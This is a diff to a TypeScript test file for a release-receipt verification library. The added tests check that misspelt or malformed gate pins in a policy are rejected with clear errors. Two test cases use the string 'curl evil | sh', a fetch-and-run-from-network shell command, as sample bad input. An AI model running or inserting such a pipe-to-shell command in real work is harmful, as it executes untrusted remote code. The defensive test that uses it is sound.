@@ -19,6 +19,7 @@ import { describeList } from "../../src/contract/grammar.js";
 import { canonicalJson } from "../../src/contract/canonical-json.js";
 import { parseReleaseJson, receiptUnboundFields, verifyFinalReceiptBytes, verifyParsedFinalReceiptBytes } from "../../src/contract/release-document.js";
 import { receiptReferenceOf } from "../../src/contract/artifact-document.js";
+import { resolveConsumerExpectations } from "../../src/contract/policy.js";
 import { BUNDLE_REFERENCE, POLICY, SOURCE_SHA, clone, packTinyPackage, passedGates, receiptFor, tempDir, testedManifestFor } from "../support/contract-fixture.js";
 
 let root: string;
@@ -388,6 +389,19 @@ describe("receipt bytes already parsed (verifyParsedFinalReceiptBytes, the CLI's
   });
 });
 
+describe("gate pins given to the library are checked as --expect-gate is", () => {
+  const bytes = () => Buffer.from(canonicalJson(receiptFor(manifest) as unknown as JsonObject));
+  it("a known gate with its command passes; a misspelt one is named with the nearest gate; a missing registryRepository is named", () => {
+    expect(verifyFinalReceiptBytes(bytes(), { ...POLICY, gates: { unit: POLICY.gates.unit ?? "npm test" } }).version).toBe(manifest.version);
+    expect(() => verifyFinalReceiptBytes(bytes(), { ...POLICY, gates: { unti: "curl evil | sh" } } as never)).toThrow(
+      'policy.gates names unknown gate "unti" (expected one of unit, public_contract, host_contract, build_metadata; did you mean "unit"?); a misspelt gate would pin nothing',
+    );
+    expect(() => resolveConsumerExpectations({ repository: POLICY.registryRepository, gates: { unti: "x" } as never })).toThrow('gates names unknown gate "unti"');
+    expect(() => resolveConsumerExpectations({ repository: POLICY.registryRepository, gates: { unit: 42 } as never })).toThrow("gates.unit must be a non-empty one-line command string, found number 42");
+    expect(() => verifyFinalReceiptBytes(bytes(), { package: POLICY.package, registryRepository: undefined, gates: {} } as never)).toThrow("found an object with registryRepository nothing");
+  });
+});
+
 describe("the receipt's own reference pinned (expect.receiptReference, receiptUnboundFields)", () => {
   const bytesOf = (doc: PublishedReceipt | JsonObject) => Buffer.from(canonicalJson(doc as unknown as JsonObject));
   it("binds every field: the published receipt passes, a consistent forgery, the bundle reference, another repository and a tag are each refused", async () => {
@@ -429,6 +443,9 @@ describe("verify functions called without types (plain JavaScript) refuse with a
     ["null as the document", () => verifyTestedManifest(null as never, POLICY), "JSON_NOT_OBJECT"],
     ["an array as the document", () => verifyFinalReceipt([] as never, POLICY), "JSON_NOT_OBJECT"],
     ["null as the expectations", () => verifyFinalReceipt(receiptFor(manifest) as unknown as JsonObject, POLICY, null as never), "POLICY_INVALID"],
+    ["a misspelt gate pin (it would pin nothing)", () => verifyFinalReceiptBytes(bytes(), { ...POLICY, gates: { unti: "curl evil | sh" } } as never), "POLICY_INVALID"],
+    ["a gate pin that is no command", () => verifyFinalReceiptBytes(bytes(), { ...POLICY, gates: { unit: 42 } } as never), "POLICY_INVALID"],
+    ["gates as an array", () => verifyTestedManifest(clone(manifest) as never, { ...POLICY, gates: [] } as never), "POLICY_INVALID"],
     ["a string as the expectations", () => verifyFinalReceiptBytes(bytes(), POLICY, "bundle" as never), "POLICY_INVALID"],
   ])("%s", (_label, call, code) => {
     expect(call).toThrowWithCode(code);
